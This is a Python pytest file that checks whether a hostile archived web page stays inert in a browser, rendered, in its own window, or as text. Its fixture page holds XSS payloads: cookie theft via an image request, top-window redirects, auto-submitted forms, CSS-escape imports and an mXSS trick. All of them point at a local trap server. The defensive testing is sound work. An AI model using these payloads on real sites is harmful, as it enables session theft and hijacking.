"""A hostile snapshot in a real browser: nothing of it runs, nothing is asked for, the window stays where it is."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from evidence_sample import Evidence, Kept
from playwright.sync_api import Browser, Page
from review_web import Serve, Web

WAIT = 1500  # milliseconds: a meta refresh of 0 seconds and a form's auto-submit happen at once


class Trap:
    """A server that counts whoever connects; hints such as preconnect are no request, and are caught here too."""

    def __init__(self) -> None:
        self.caught: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.origin = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            with suppress(OSError):
                connection, _ = self._socket.accept()
                connection.settimeout(2)
                first = b""
                with suppress(OSError):
                    first = connection.recv(200)
                connection.close()
                if first == b"the end":
                    return
                self.caught.append(first)

    def close(self) -> None:
        with socket.create_connection(self._socket.getsockname()) as last:
            last.sendall(b"the end")
        self._thread.join(10)
        self._socket.close()


def hostile(trap: str, top: str) -> bytes:
    """Everything that a page may try."""
    return f"""<!doctype html><html manifest="{trap}/m"><head>
<base href="{trap}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="preconnect" href="{trap}"><link rel="dns-prefetch" href="{trap}"><link rel="prefetch" href="{trap}/p">
<link rel="stylesheet" href="{trap}/s.css"><link rel="icon" href="{trap}/i.ico">
<link rel="modulepreload" href="{trap}/m.js">
<style>@import url("{trap}/import.css"); @font-face {{ font-family: x; src: url("{trap}/font") }}
p {{ background: \\75rl("{trap}/escaped.png") }} @\\69mport "{trap}/escaped.css";
body {{ background: url("{trap}/css.png"); font-family: x }} li::before {{ content: url("{trap}/content.png") }}</style>
<script>fetch("{trap}/script"); top.location = "{trap}/top"; new Image().src = "{trap}/?" + document.cookie;</script>
<script src="{trap}/src.js"></script></head>
<body onload="fetch('{trap}/onload')" background="{trap}/bg.png">
<h1 onmouseover="fetch('{trap}/over')">码头</h1>
<img src="{trap}/img.png" onerror="top.location='{trap}/onerror'"><img srcset="{trap}/set.png 1x">
<svg onload="fetch('{trap}/svg')"><image href="{trap}/svg.png"/><script>fetch("{trap}/svgscript")</script></svg>
<iframe src="{trap}/frame"></iframe><iframe src="javascript:top.location='{trap}/js'"></iframe>
<iframe srcdoc="<script>top.location='{trap}/srcdoc'</script>"></iframe>
<object data="{trap}/object"><embed src="{trap}/embed"></object>
<video src="{trap}/video" poster="{trap}/poster"></video>
<form id="f" action="{trap}/form" method="post" target="_top"><input name="a" autofocus onfocus="this.form.submit()">
<button formaction="{trap}/button">send</button></form><script>document.getElementById("f").submit()</script>
<form action="{top}/sources/x/check" method="post"><input type="image" src="{trap}/image"></form>
<a id="out" href="{trap}/link" target="_top" ping="{trap}/ping">link</a>
<a href="javascript:fetch('{trap}/jslink')">x</a>
<p style="background:url({trap}/style.png)">第二条 码头每年检查两次。</p><li>x</li>
<!--<script>--><noscript><img src="{trap}/noscript.png"><meta http-equiv="refresh" content="0;url={trap}/n"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={trap}/mxss&gt;"></table></mtext></math>
<template><img src="{trap}/template.png"></template></body></html>""".encode()


@pytest.fixture
def trap() -> Iterator[Trap]:
    opened = Trap()
    yield opened
    opened.close()


@pytest.fixture
def kept(trap: Trap, serve: Serve, tmp_path: Path) -> Iterator[tuple[Web, Kept]]:
    evidence = Evidence(tmp_path)
    web = evidence.web(serve)
    yield web, evidence.keep(hostile(trap.origin, web.base))
    evidence.store.close()


def shown(browser: Browser, web: Web, path: str) -> tuple[Page, list[str], list[str]]:
    """The page, with a cookie worth stealing; what it asked for, and what ran."""
    context = browser.new_context(base_url=web.base)
    context.add_cookies([{"name": "secret", "value": "hunter2", "url": web.base}])
    page = context.new_page()
    asked: list[str] = []
    ran: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))  # others were refused by the browser
    page.on("dialog", lambda dialog: ran.append(dialog.message))
    page.on("popup", lambda popup: ran.append(popup.url))
    page.goto(path)
    page.wait_for_timeout(WAIT)
    return page, asked, ran


def test_a_hostile_snapshot_does_nothing_in_its_frame(browser: Browser, trap: Trap, kept: tuple[Web, Kept]) -> None:
    web, one = kept
    page, asked, ran = shown(browser, web, one.path("evidence") + "?view=rendered")
    frame = page.frame(url=web.base + one.path("rendered"))
    assert frame is not None
    assert frame.locator("h1").inner_text() == "码头"
    assert frame.get_by_text("第二条 码头每年检查两次。").is_visible()
    frame.locator("h1").hover()
    page.wait_for_timeout(200)
    assert page.url == web.base + one.path("evidence") + "?view=rendered"
    assert (trap.caught, ran) == ([], [])
    assert [url for url in asked if not url.startswith(web.base)] == []
    assert [url for url in asked if "/check" in url] == []
    page.context.close()


def test_a_hostile_snapshot_does_nothing_in_a_window_of_its_own(
    browser: Browser, trap: Trap, kept: tuple[Web, Kept]
) -> None:
    web, one = kept
    page, asked, ran = shown(browser, web, one.path("rendered"))
    assert page.url == web.base + one.path("rendered")
    assert page.locator("h1").inner_text() == "码头"
    assert (trap.caught, ran) == ([], [])
    assert asked == [web.base + one.path("rendered")]
    assert page.evaluate("self.origin") == "null"
    page.context.close()


@pytest.mark.parametrize("view", ["text", "source"])
def test_a_hostile_snapshot_does_nothing_as_words(
    browser: Browser, trap: Trap, kept: tuple[Web, Kept], view: str
) -> None:
    web, one = kept
    page, asked, ran = shown(browser, web, one.path("evidence") + f"?view={view}")
    assert [url for url in asked if not url.startswith(web.base)] == []
    assert (trap.caught, ran) == ([], [])
    page.context.close()
